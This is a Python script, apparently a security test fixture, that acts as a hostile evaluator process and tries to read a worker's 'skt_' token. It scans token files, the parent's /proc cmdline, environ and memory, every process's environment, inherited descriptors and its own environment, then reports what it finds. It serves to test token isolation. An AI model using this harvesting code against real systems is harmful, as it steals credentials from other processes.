#!/usr/bin/env python3
"""A hostile external evaluator: it tries every route it knows to the
worker's token and answers every request with an error text that lists what
it found (and the routes it tried), as a researcher stealing a token would.

argv[1:]: paths where the token may lie (the worker's token file, its config
folder's token file). Tokens look like skt_ + 64 hex digits
(server/auth/tokens.h).

Routes: the given files; /proc/<ppid>/cmdline, environ and mem (the
readable regions listed in maps); cmdline and environ of every process in
/proc; every inherited descriptor from 3 to 1023; its own environment.
"""
import json
import os
import re
import sys

TOKEN = re.compile(rb"skt_[0-9a-f]{64}")
found = []
tried = []


def look(route, data):
    tried.append(route)
    if data:
        for m in TOKEN.findall(data):
            found.append("%s: %s" % (route, m.decode()))


def read_path(route, path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            look(route, f.read(limit))
    except OSError as e:
        tried.append("%s (%s)" % (route, e.strerror))


def steal():
    for path in sys.argv[1:]:
        read_path("file " + path, path)
    ppid = os.getppid()
    for what in ("cmdline", "environ"):
        read_path("parent %s" % what, "/proc/%d/%s" % (ppid, what))
    try:  # the parent's memory, region by region
        with open("/proc/%d/maps" % ppid) as maps, \
                open("/proc/%d/mem" % ppid, "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                if "r" not in fields[1]:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > (64 << 20):
                    continue
                try:
                    mem.seek(start)
                    look("parent mem", mem.read(end - start))
                except (OSError, ValueError, OverflowError):
                    pass
        tried.append("parent mem")
    except OSError as e:
        tried.append("parent mem (%s)" % e.strerror)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for what in ("cmdline", "environ"):
                read_path("pid %s %s" % (pid, what),
                          "/proc/%s/%s" % (pid, what))
    for fd in range(3, 1024):
        try:
            look("fd %d" % fd, os.pread(fd, 1 << 16, 0))
        except OSError:
            try:
                look("fd %d" % fd, os.read(fd, 1 << 16))
            except OSError:
                pass
    look("own environment",
         "\n".join("%s=%s" % kv for kv in os.environ.items()).encode())


steal()
summary = "thief tried %d routes; found: %s" % (
    len(tried), "; ".join(sorted(set(found))) or "nothing")
print(summary, file=sys.stderr, flush=True)
for line in sys.stdin:
    req = json.loads(line)
    sys.stdout.write(json.dumps({"id": req["id"], "error": summary}) + "\n")
    sys.stdout.flush()
